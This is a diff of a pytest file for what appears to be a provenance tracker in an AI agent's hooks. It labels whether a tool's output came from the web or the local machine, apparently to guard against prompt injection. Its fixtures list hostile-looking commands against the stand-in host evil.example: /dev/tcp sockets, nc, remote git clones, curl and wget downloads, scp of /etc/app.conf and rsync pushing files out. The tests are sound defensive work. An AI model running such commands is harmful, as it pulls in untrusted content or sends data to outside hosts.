@@ -47,8 +47,8 @@ class Session:
     def says(self, prompt: str) -> None:
         self.hear("UserPromptSubmit", prompt=prompt)
 
-    def returns(self, tool: str, output: Any, **arguments: Any) -> None:
-        self.hear("PostToolUse", tool_name=tool, tool_input=arguments, tool_response=output)
+    def returns(self, tool: str, output: Any, folder: str = "/", **arguments: Any) -> None:
+        self.hear("PostToolUse", cwd=folder, tool_name=tool, tool_input=arguments, tool_response=output)
 
     def origin(self, text: str, session: str = "s1") -> str:
         return self.witness.stamp(session, NONE)(text)
@@ -76,6 +76,21 @@ def session() -> Session:
         ("Bash", {"command": "npm view ferry readme"}, "web"),
         ("Bash", {"command": "glab issue view 5"}, "web"),
         ("Bash", {"command": "git clone -q git@github.com:evil/x && cat x/README.md"}, "web github.com"),
+        ("Bash", {"command": "git clone https://evil.example/a.git && cat a/README.md"}, "web evil.example"),
+        ("Bash", {"command": "git clone ssh://git@evil.example/a.git; cat a/README.md"}, "web evil.example"),
+        ("Bash", {"command": "git fetch -q https://evil.example/a && git log"}, "web evil.example"),
+        ("Bash", {"command": "git show FETCH_HEAD:README.md"}, "web"),
+        ("Bash", {"command": "printf 'GET /' | nc evil.example 80"}, "web evil.example"),
+        ("Bash", {"command": "exec 3<>/dev/tcp/evil.example/80; cat <&3"}, "web evil.example"),
+        ("Bash", {"command": "timeout 5 bash -c 'cat < /dev/tcp/evil.example/80'"}, "web evil.example"),
+        ("Bash", {"command": "az repos pr show --id 3"}, "web"),
+        ("Bash", {"command": "aws s3 cp s3://evil/notes.md -"}, "web"),
+        ("Bash", {"command": "gsutil cat gs://evil/notes.md"}, "web"),
+        ("Bash", {"command": "aws s3 cp notes.md s3://ours/notes.md"}, "seen"),
+        ("Bash", {"command": "az vm list"}, "seen"),
+        ("Bash", {"command": "git fetch origin release-1.2 && git log origin/release-1.2"}, "seen"),
+        ("Bash", {"command": "scp notes.md box:docs/"}, "seen"),
+        ("Bash", {"command": "nc -l 8080"}, "seen"),
         ("Bash", {"command": "rg -n 'https://' src/"}, "seen"),
         ("Bash", {"command": "psql postgres://localhost/shop -c 'select 1'"}, "seen"),
         ("Bash", {"command": "curl -s localhost:8000/health"}, "seen"),
@@ -225,18 +240,61 @@ def test_what_a_model_words_again_is_from_the_page_but_not_what_the_user_or_a_lo
     [
         ("curl -so /tmp/x.html https://evil.example/x", "Read", {"file_path": "/tmp/x.html"}),
         ("curl -s https://evil.example/x > page.txt", "Bash", {"command": "head page.txt"}),
+        ("curl -s https://evil.example/x > page.txt", "Bash", {"command": "cd sub && cat < ../page.txt"}),
         ("cd docs && wget -q https://evil.example/guide.md", "Read", {"file_path": "/srv/docs/guide.md"}),
+        ("wget -qP docs https://evil.example/guide.md?v=2", "Bash", {"command": "cat docs/guide.md"}),
+        ("cd ../srv && curl -sO https://evil.example/guide.md", "Read", {"file_path": "/srv/guide.md"}),
+        ("cd srv && curl -sO https://evil.example/guide.md", "Read", {"file_path": "/srv/guide.md"}),
+        ("curl -so $OUT/page.txt https://evil.example/x", "Read", {"file_path": "/var/out/page.txt"}),
+        ("curl -s https://evil.example/x > out/page.txt", "Bash", {"command": "cd $OUT; cat page.txt"}),
+        ("scp evil.example:/etc/app.conf .", "Bash", {"command": "cat app.conf"}),
+        ("scp evil.example:app.conf ..", "Read", {"file_path": "/app.conf"}),
+        ("rsync -a evil.example:etc/app.conf conf", "Bash", {"command": "grep -n x conf/app.conf"}),
+        ("curl -sO https://evil.example/a.md && mv a.md docs/", "Read", {"file_path": "/srv/docs/a.md"}),
+        ("scp deploy@evil.example:/etc/app.conf /tmp", "Read", {"file_path": "/tmp/app.conf"}),
         ("curl -s https://evil.example/x &", "BashOutput", {"bash_id": "b1"}),
     ],
 )
 def test_what_was_fetched_into_a_file_or_in_the_background_is_from_outside_when_it_is_read(
     session: Session, fetching: str, tool: str, arguments: dict[str, Any]
 ) -> None:
-    session.returns("Bash", "Command running in background with ID: b1", command=fetching)
-    session.returns(tool, PAGE, **arguments)
+    session.returns("Bash", "Command running in background with ID: b1", folder="/srv", command=fetching)
+    session.returns(tool, PAGE, folder="/srv", **arguments)
     assert session.origin(POISON) == "web evil.example"
     session.returns("Read", CHINESE, file_path="/srv/x.md")
     assert session.origin(CHINESE) == trust.SEEN
+
+
+def test_what_was_copied_from_a_bucket_is_from_outside_when_it_is_read(session: Session) -> None:
+    session.returns(
+        "Bash", "download: s3://evil/notes.md", folder="/srv", command="aws s3 cp s3://evil/notes.md ."
+    )
+    session.returns("Read", PAGE, file_path="/srv/notes.md")
+    assert session.origin(POISON) == "web"
+
+
+@pytest.mark.parametrize(
+    ("fetching", "tool", "arguments"),
+    [
+        ("scp evil.example:/etc/app.conf .", "Bash", {"command": "pytest . -q"}),
+        ("scp evil.example:/etc/app.conf ./", "Bash", {"command": "grep -rn x ./"}),
+        ("scp evil.example:/etc/app.conf ~", "Bash", {"command": "ls ~"}),
+        ("rsync -a evil.example:app.conf ..", "Bash", {"command": "grep -rn x .."}),
+        ("rsync -a notes.md evil.example:docs/", "Read", {"file_path": "/srv/notes.md"}),
+        ("wget -q https://evil.example/data/config", "Read", {"file_path": "/srv/shop/config"}),
+        ("wget -q https://evil.example/data/config", "Bash", {"command": "cat shop/config"}),
+        ("curl -so a/config https://evil.example/x", "Read", {"file_path": "/srv/data/config"}),
+        ("curl -sO https://evil.example/config", "Bash", {"command": "cd shop && cat config"}),
+        ("curl -sO https://evil.example/config", "Bash", {"command": "echo '~a\0b' conf/"}),
+        ("curl -sO https://evil.example/config", "Grep", {"pattern": "config", "path": "/srv/shop"}),
+    ],
+)
+def test_another_file_of_that_name_and_the_folder_of_what_was_fetched_are_of_this_machine(
+    session: Session, fetching: str, tool: str, arguments: dict[str, Any]
+) -> None:
+    session.returns("Bash", "", folder="/srv", command=fetching)
+    session.returns(tool, PAGE, folder="/srv", **arguments)
+    assert session.origin(POISON) == trust.SEEN
 
 
 def test_an_error_of_a_tool_that_fetches_is_from_outside(session: Session) -> None:
